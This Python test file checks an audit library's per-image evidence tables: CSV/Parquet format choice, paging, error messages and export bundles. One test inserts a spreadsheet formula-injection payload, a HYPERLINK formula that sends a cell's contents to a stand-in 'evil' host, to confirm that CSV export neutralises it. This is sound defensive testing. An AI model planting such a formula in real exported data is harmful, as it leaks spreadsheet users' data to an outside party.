"""Per-image evidence: CSV for small audits, Parquet from the threshold on, one lazy reader."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from auditkit import evidence
from auditkit._export import file_audience
from auditkit.cli import main
from auditkit.evidence import (
    PARQUET_MIN_ROWS,
    evidence_format,
    export_csv,
    find_table,
    open_table,
    read_table,
    write_table,
)
from auditkit.exceptions import DataError
from auditkit.export import export_audit
from auditkit.fairness import operating_points_from_audit


@pytest.fixture
def fitzpatrick_rows(data_root: Path) -> pd.DataFrame:
    """The first 3,000 rows of the real Fitzpatrick 17k table, as text, plus a float column."""
    table = pd.read_csv(data_root / "fitzpatrick17k" / "metadata.csv", dtype=str,
                        keep_default_na=False).head(3000)
    table["prob_malignant"] = np.random.default_rng(0).random(len(table))
    return table


def test_threshold_is_a_documented_setting(monkeypatch: pytest.MonkeyPatch) -> None:
    assert PARQUET_MIN_ROWS == 100_000
    assert evidence_format(PARQUET_MIN_ROWS - 1) == "csv"
    assert evidence_format(PARQUET_MIN_ROWS) == "parquet"
    monkeypatch.setenv("AUDITKIT_PARQUET_MIN_ROWS", "0")
    assert evidence_format(5) == "parquet"
    monkeypatch.setenv("AUDITKIT_PARQUET_MIN_ROWS", "many")
    with pytest.raises(DataError, match="AUDITKIT_PARQUET_MIN_ROWS must be a whole number of "
                                        "rows; got 'many' instead."):
        evidence_format(5)


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_real_table_round_trip_columns_pages_batches(tmp_path: Path, fitzpatrick_rows, fmt):
    path = write_table(fitzpatrick_rows, tmp_path, "predictions", fmt=fmt)
    assert path.name == f"predictions.{fmt}" and find_table(tmp_path, "predictions") == path
    table = open_table(tmp_path, "predictions")
    assert table.format == fmt and table.n_rows == 3000
    assert table.columns == list(fitzpatrick_rows.columns)
    cols = ["fitzpatrick", "prob_malignant"]
    got = table.read(cols)
    assert list(got.columns) == cols
    np.testing.assert_allclose(got["prob_malignant"], fitzpatrick_rows["prob_malignant"])
    text = table.read(["fitzpatrick", "label"], as_text=True)
    pd.testing.assert_frame_equal(text.astype(object),
                                  fitzpatrick_rows[["fitzpatrick", "label"]].astype(object),
                                  check_dtype=False)
    page = table.page(1234, 50, columns=["label"])
    assert page["label"].tolist() == fitzpatrick_rows["label"].iloc[1234:1284].tolist()
    batches = list(table.iter_batches(["label"], batch_size=700))
    assert [len(b) for b in batches] == [700, 700, 700, 700, 200]
    assert pd.concat(batches)["label"].tolist() == fitzpatrick_rows["label"].tolist()



def test_page_spans_row_groups_and_stops_at_the_end(tmp_path: Path, fitzpatrick_rows) -> None:
    """Pages of a Parquet file of many row groups (as pyarrow writes past a million rows):
    a page across a group boundary, the last partial page, past the end, and limit 0 all
    give exactly the rows of the table, in order."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    pq.write_table(pa.Table.from_pandas(fitzpatrick_rows, preserve_index=False),
                   tmp_path / "predictions.parquet", row_group_size=700)
    table = open_table(tmp_path, "predictions")
    with pq.ParquetFile(table.path) as handle:
        assert handle.num_row_groups == 5  # 4 x 700 + 200
    want = fitzpatrick_rows["image"]
    for offset, limit in [(0, 25), (690, 25), (1390, 720), (2990, 50), (2800, 200)]:
        got = table.page(offset, limit, columns=["image"])
        assert got["image"].tolist() == want.iloc[offset:offset + limit].tolist(), (offset, limit)
    assert table.page(3000, 10, columns=["image"]).empty
    assert list(table.page(5, 0).columns) == list(fitzpatrick_rows.columns)
    assert table.page(5, 0).empty
    with pytest.raises(DataError, match="offset >= 0 and limit >= 0; got offset=-1"):
        table.page(-1, 10)


def test_writer_cuts_row_groups_so_a_page_decodes_only_its_own(
        tmp_path: Path, fitzpatrick_rows, monkeypatch: pytest.MonkeyPatch) -> None:
    """The library's own Parquet writer cuts row groups of ROW_GROUP_ROWS, so a page of a
    large table reads one group, not every row; pages still give the table's rows."""
    import pyarrow.parquet as pq

    monkeypatch.setattr(evidence, "ROW_GROUP_ROWS", 1000)
    path = write_table(fitzpatrick_rows, tmp_path, "predictions", fmt="parquet")
    with pq.ParquetFile(path) as handle:
        assert [handle.metadata.row_group(g).num_rows
                for g in range(handle.num_row_groups)] == [1000, 1000, 1000]
    decoded: list[int] = []
    real = pq.ParquetFile.read_row_group

    def counting(self, i, *args, **kwargs):  # noqa: ANN001, ANN002, ANN003, ANN202
        decoded.append(i)
        return real(self, i, *args, **kwargs)

    monkeypatch.setattr(pq.ParquetFile, "read_row_group", counting)
    got = open_table(tmp_path, "predictions").page(1200, 50, columns=["image"])
    assert decoded == [1]
    assert got["image"].tolist() == fitzpatrick_rows["image"].iloc[1200:1250].tolist()


def test_one_table_per_stem_and_csv_export_neutralises_formulas(tmp_path: Path,
                                                                 fitzpatrick_rows) -> None:
    frame = fitzpatrick_rows.copy()
    frame.loc[7, "label"] = '=HYPERLINK("http://evil/?"&A1)'
    write_table(frame, tmp_path, "predictions", fmt="csv")
    write_table(frame, tmp_path, "predictions", fmt="parquet")
    assert not (tmp_path / "predictions.csv").exists()  # never two versions of one table
    assert read_table(tmp_path, "predictions", columns=["label"])["label"][7].startswith("=")
    out = export_csv(tmp_path, "predictions", dest=tmp_path / "export.csv")
    back = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert len(back) == 3000 and back["label"][7] == "'" + frame.loc[7, "label"]
    assert back["label"][8] == frame["label"][8]


def test_bad_tables_say_what_was_expected(tmp_path: Path, fitzpatrick_rows) -> None:
    write_table(fitzpatrick_rows, tmp_path, "predictions", fmt="parquet")
    with pytest.raises(DataError, match=r"predictions.parquet: expected columns \['audience'\]; "
                                        r"found \['image'"):
        read_table(tmp_path, "predictions", columns=["audience"])
    with pytest.raises(DataError, match="Expected membership.parquet or membership.csv in"):
        open_table(tmp_path, "membership")
    (tmp_path / "notes.txt").write_text("x")
    with pytest.raises(DataError, match="Expected a .csv or .parquet per-image table; got "
                                        "'notes.txt' instead."):
        open_table(tmp_path / "notes.txt")
    (tmp_path / "broken.parquet").write_bytes(b"not parquet at all")
    with pytest.raises(DataError, match="broken.parquet: expected a Parquet file"):
        open_table(tmp_path / "broken.parquet")
    with pytest.raises(DataError, match="Evidence format must be one of"):
        write_table(fitzpatrick_rows, tmp_path, "x", fmt="xlsx")


def test_audit_writes_parquet_from_the_threshold_and_says_so(
        tmp_path: Path, tiny_dataset_dir: Path, brightness_model_dir: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    args = ["audit", "--model", str(brightness_model_dir), "--dataset", str(tiny_dataset_dir),
            "--n-boot", "100", "--device", "cpu", "--checks", "performance,fairness"]
    assert main([*args, "--out", str(tmp_path / "small")]) == 0
    monkeypatch.setenv("AUDITKIT_PARQUET_MIN_ROWS", "10")  # the 24-image audit is "large"
    assert main([*args, "--out", str(tmp_path / "large")]) == 0
    small = json.loads((tmp_path / "small" / "audit.json").read_text())
    large = json.loads((tmp_path / "large" / "audit.json").read_text())
    assert small["evidence_files"] == {"predictions": {"file": "predictions.csv",
                                                       "format": "csv", "rows": 24}}
    assert large["evidence_files"] == {"predictions": {"file": "predictions.parquet",
                                                       "format": "parquet", "rows": 24}}
    assert not (tmp_path / "large" / "predictions.csv").exists()
    a = read_table(tmp_path / "small", "predictions")
    b = read_table(tmp_path / "large", "predictions")
    assert list(a.columns) == list(b.columns)
    for col in a.columns:
        if col.startswith("prob_"):
            np.testing.assert_allclose(a[col], b[col], rtol=1e-12)
        else:
            assert a[col].astype(str).tolist() == b[col].astype(str).tolist(), col
    # the release bundle keeps the format, and names the file in its manifest
    manifest = export_audit(tmp_path / "large", tmp_path / "bundle")
    assert "predictions.parquet" in manifest["files"]
    assert len(read_table(tmp_path / "bundle", "predictions")) == 24
    # the Parquet table states its audience in every row, as the CSV does (issue 15)
    assert file_audience(tmp_path / "large" / "predictions.parquet") == "release"
    assert file_audience(tmp_path / "bundle" / "predictions.parquet") == "release"
    inside = export_audit(tmp_path / "large", tmp_path / "inside", audience="in-house")
    assert inside["files"]["predictions.parquet"]["audience"] == "release"
    # the threshold view reads the same numbers from either format
    attribute = next(iter(large["dataset"]["attributes"]))
    positive = large["model"]["positive_class"]
    pa = operating_points_from_audit(tmp_path / "small", attribute=attribute,
                                     positive_class=positive, threshold=0.5)
    pb = operating_points_from_audit(tmp_path / "large", attribute=attribute,
                                     positive_class=positive, threshold=0.5)
    assert pa is not None and pb is not None and len(pa) >= 1 and pa["n"].sum() == 24
    pd.testing.assert_frame_equal(pa, pb)
    assert operating_points_from_audit(tmp_path / "large", attribute="nope",
                                       positive_class=positive, threshold=0.5) is None
    # the page keeps the columns it read; a rewritten table is read again, never served stale
    table = read_table(tmp_path / "large", "predictions")
    table["evaluated"] = [True] * 6 + [False] * 18
    write_table(table, tmp_path / "large", "predictions")
    pc = operating_points_from_audit(tmp_path / "large", attribute=attribute,
                                     positive_class=positive, threshold=0.5)
    assert pc is not None and pc["n"].sum() == 6


def test_module_is_small_and_public() -> None:
    assert set(evidence.__all__) >= {"write_table", "read_table", "open_table", "export_csv"}
